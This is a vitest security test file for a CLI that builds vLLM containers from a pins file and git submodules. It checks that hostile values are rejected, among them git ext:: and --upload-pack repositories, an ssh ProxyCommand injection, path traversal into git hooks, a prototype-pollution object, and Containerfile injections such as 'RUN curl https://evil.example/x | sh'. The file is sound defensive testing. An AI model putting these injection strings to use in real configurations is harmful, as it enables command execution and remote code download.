import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { gitlinks } from '../../src/container/sources.js';
import { cli } from '../support/cli.js';
import { containerPlace } from '../support/container-place.js';
import { gitIn } from '../support/git.js';
import { Repository } from '../support/git-server.js';
import { expectHarmless, Forge, World, write } from './world.js';

const world = new World();
const COMMIT = 'a'.repeat(40);

const PIN = { project: 'vllm', name: 'v1', commit: COMMIT };
const SET = { name: 'evil', vllm: 'v1', cuda: '13.0', arch: '12.1a' };
const FILE = { formatVersion: 1, projects: {}, pins: [PIN], sets: [SET] };

const PINS: Readonly<Record<string, unknown>> = {
  'a repository that is a program': {
    ...FILE,
    projects: { vllm: { repository: `ext::${world.touch('ext')}` } },
  },
  'a repository that is an option': {
    ...FILE,
    projects: { vllm: { repository: `--upload-pack=${world.touch('up')}` } },
  },
  'an ssh option in a repository': {
    ...FILE,
    projects: { vllm: { repository: `ssh://-oProxyCommand=${world.touch('ssh')}/x` } },
  },
  'a commit that is an option': { ...FILE, pins: [{ ...PIN, commit: '--output=/tmp/x' }] },
  'a name that goes up': { ...FILE, pins: [{ ...PIN, name: '../../x' }] },
  'a tag that goes up': { ...FILE, pins: [{ ...PIN, tag: '../../../hooks/post-checkout' }] },
  'a tag that is an option': { ...FILE, pins: [{ ...PIN, tag: '--help' }] },
  'a tag with a newline': { ...FILE, pins: [{ ...PIN, tag: 'v1\nRUN x' }] },
  'a torch that is a command': {
    ...FILE,
    sets: [{ ...SET, torch: `2.10 $(${world.touch('torch')})\nRUN curl https://evil.example/x | sh\n#` }],
  },
  'a torch with an option': { ...FILE, sets: [{ ...SET, torch: '2.10 --index-url=https://evil.example' }] },
  'a torch with a quote': { ...FILE, sets: [{ ...SET, torch: "2.10'; x '" }] },
  'an arch that is a command': { ...FILE, sets: [{ ...SET, arch: '12.1a"; x; "' }] },
  'a CUDA that is a command': { ...FILE, sets: [{ ...SET, cuda: '13.0; x' }] },
  'a set’s name that is a command': { ...FILE, sets: [{ ...SET, name: 'a\nRUN x' }] },
  'a set’s revision that is an option': { ...FILE, sets: [{ ...SET, vllm: '--x' }] },
  'keys that are not known': { ...FILE, postInstall: world.touch('key') },
  'a prototype': JSON.parse('{"formatVersion":1,"projects":{},"pins":[],"__proto__":{"x":1}}'),
  'a format of the future': { ...FILE, formatVersion: 2 },
  'no object': [],
  nothing: null,
};

describe('a pins file with', () => {
  it.each(Object.entries(PINS))('%s is refused, or harmless', async (_, data) => {
    const pins = world.place('pins');
    write(pins, JSON.stringify(data));
    const out = world.place('context');
    for (const argv of [
      ['status', '--target', 'vllm@v1', '--pins', pins, '--mirror', `vllm=${world.dir}`],
      ['build', '--set', 'evil', '--pins', pins, '--tree', `vllm=${world.dir}`, '--context-only', out],
      ['pins', 'check', '--pins', pins, '--no-cache', '--mirror', `vllm=${world.dir}`],
      ['matrix', '--pins', pins, '--no-cache', '--mirror', `vllm=${world.dir}`, '--project', 'vllm'],
    ]) {
      expectHarmless(world, await cli(...argv), [0, 1, 2, 3, 5]);
    }
  });

  it('a good set still makes a Containerfile, and its torch is one word', async () => {
    const place = await containerPlace();
    const dir = join(place.dir, 'context');
    expect(await cli('build', ...place.args, '--context-only', dir)).toMatchObject({ code: 0 });
    expect(readFileSync(join(dir, 'Containerfile'), 'utf8')).toMatch(/ torch==2\.10\.0\+cu130 torchvision /);
    const file = JSON.parse(readFileSync(place.pins, 'utf8'));
    file.sets[0].torch = '2.10 $(x)\nRUN curl https://evil.example | sh\n#';
    write(place.pins, JSON.stringify(file));
    const ran = await cli('build', ...place.args, '--context-only', join(place.dir, 'evil'));
    expect(ran).toMatchObject({ code: 2 });
    expect(ran.err).toMatch(/sets\[0\]\.torch: .*a version of torch/);
    expect(readdirSync(place.dir)).not.toContain('evil');
  });
});

describe('a submodule', () => {
  it.each(['a b', 'a;touch x', 'a$(x)', "a'b", 'a`b`'])('called %j reaches no RUN line', async (name) => {
    const repository = await Repository.make();
    const first = await repository.commit({
      '.gitmodules': `[submodule "x"]\n\tpath = "${name}"\n\turl = https://example.com/x.git\n`,
    });
    const forge = new Forge(repository.dir);
    const tree = gitIn(repository.dir, 'rev-parse', `${first}^{tree}`);
    const grafted = forge.graft(tree, [name], '160000', first);
    const commit = gitIn(repository.dir, 'commit-tree', grafted, '-p', first, '-m', 'x');
    gitIn(repository.dir, 'update-ref', 'HEAD', commit);
    const patched = { dir: repository.dir, project: 'flashinfer' } as Parameters<typeof gitlinks>[0];
    await expect(gitlinks(patched)).rejects.toThrow(/has an odd name|no https address/);
  });
});
